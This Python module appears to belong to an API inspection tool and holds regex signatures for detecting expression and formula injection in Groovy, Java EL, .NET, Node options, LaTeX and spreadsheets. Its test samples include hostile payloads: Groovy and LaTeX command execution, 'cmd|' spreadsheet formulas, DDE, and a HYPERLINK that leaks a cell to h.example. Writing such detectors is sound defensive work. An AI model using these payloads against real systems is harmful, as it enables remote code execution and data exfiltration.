"""Expressions that run on the servers of others: Groovy, Java's expression languages, references into prototypes, sheets."""

from __future__ import annotations

import re

from apitrail.inspect.attacks.families.wording import prose
from apitrail.inspect.attacks.signature import Check, Signature
from apitrail.inspect.attacks.values import Value

LINES = 6
"""Lines of a text up to which it is no program that someone stores."""


def _short(sure: float) -> Check:
    def check(value: Value, _start: int, _end: int) -> float:
        return 0.0 if prose(value.text) or value.text.count("\n", 0, 4000) > LINES else sure

    return check


def _cell(value: Value, start: int, _end: int) -> float:
    """A cell of a sheet that starts a program or sends other cells away, where a name or remark belongs."""
    text = value.text
    if start or len(text) > 500 or value.is_name:
        return 0.0
    return (
        0.9 if re.search(r"\|\s*['\"]?\s*[/!-]|\bdde\s*\(|![a-z]{1,3}\d", text, re.IGNORECASE) else 0.75 if "&" in text else 0.0
    )


SIGNATURES: tuple[Signature, ...] = (
    Signature(
        "expression-groovy", "rce", "groovy",
        r"['\"\])]\s*\.\s*execute\s*\(\s*\)\s*(?:$|[.;)}&,])|\bgroovyshell\b|\bgroovy\.(?:lang|util)\.\w+"
        r"|@(?:groovy\.transform\.)?(?:asttest|grabresolver|grabconfig)\b"
        r"|\bmethodclosure\b|\bbsh\.interpreter\b",
        check=_short(0.8),
        fires=("'id'.execute().text", "['sh','-c','id'].execute()", "groovy.lang.GroovyShell().evaluate('1')",
            "@GrabResolver(name='a', root='http://h.example')"),
        silent=("cursor.execute('select 1')", "command.execute()", "we run the groovy scripts of yours"),
    ),
    Signature(
        "expression-scope", "rce", "el",
        r"[$#%]\{\s*\(?(?:pagecontext|applicationscope|sessionscope|facescontext|initparam|#request|#session"
        r"|#application|#attr|@\w+\.)|\bT\s*\(\s*(?:java|javax|jakarta|org|com|sun)\.[a-z]",
        check=_short(0.8),
        fires=("${pageContext.request.getSession()}", "#{facesContext.externalContext}", "%{#request['a']}",
            "${@java.lang.System@getenv()}", "T(org.springframework.util.StreamUtils).copy(x)"),
        silent=("T (see com.example)", "${page.title}", "#{session}", "${application}"),
    ),
    Signature(
        "expression-process", "rce", "dotnet",
        r"\bsystem\.diagnostics\.process(?:\s*\.\s*start|startinfo)|\bprocess\.start\s*\(\s*[\"']"
        r"|\bnew-object\s+(?:system\.)?net\.webclient",
        check=_short(0.85),
        fires=('@{System.Diagnostics.Process.Start("cmd.exe")}', "Process.Start('calc')", "New-Object Net.WebClient"),
        silent=("process.start()", "the process started"),
    ),
    Signature(
        "expression-reference", "rce", "prototype-reference",
        r"\$[\dA-Z@]?[0-9a-f]*:(?:[\w-]*:)*(?:__proto__|constructor|prototype)\b",
        check=_short(0.9),
        fires=("$1:__proto__:then", "$1:constructor:constructor", "$F2:a:constructor", "$@0:x:prototype"),
        silent=("$1: constructor", "$12:30", "a:constructor"),
    ),
    Signature(
        "expression-node-options", "rce", "nodejs",
        r"\bnode_options\b[\"']?\s*[:=]\s*[\"']?\s*--(?:require|import|inspect|eval|experimental-loader)"
        r"|\bexecargv\b[\"']?\s*[:=]|\bargv0\b[\"']?\s*:|\b(?:global|root)\s*\.\s*process\s*[.\[]",
        check=_short(0.85),
        fires=('{"NODE_OPTIONS":"--require /proc/self/environ"}', '"execArgv":["--eval=1"]'),
        silent=("global process of it", "NODE_OPTIONS=--max-old-space-size=4096", "the execArgv of it"),
    ),
    Signature(
        "expression-latex", "rce", "latex",
        r"\\(?:immediate\s*\\)?write18\s*[{\x22]"
        r"|\\(?:input|include|openin\\?\w*=?|openout\\?\w*=?)\s*\{?\s*\|",
        check=_short(0.85),
        fires=("\\immediate\\write18{id}", "\\input{|id}"),
        silent=("\\input{chapter1}", "\\write18 is what LaTeX runs commands with"),
    ),
    Signature(
        "expression-sheet", "rce", "spreadsheet",
        r"^[ \"']*[=+@-][^\n]*(?:\b(?:cmd|powershell|mshta|rundll32|regsvr32|msexcel|bash)[\s'\"]*\||\bdde\s*\("
        r"|\b(?:webservice|importxml|importdata|importhtml"
        r"|importfeed|hyperlink)\s*\(\s*(?:concatenate\s*\()?\s*[\"']https?:)",
        check=_cell,
        fires=("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://h.example/?x="&A1,"open")',
            '+DDE("cmd";"/C calc";"x")'),
        silent=("=SUM(A1:A9)", "- cmd | grep", '=HYPERLINK("https://shop.example/1","Order 1")', "-5 | 3"),
    ),
)  # fmt: skip
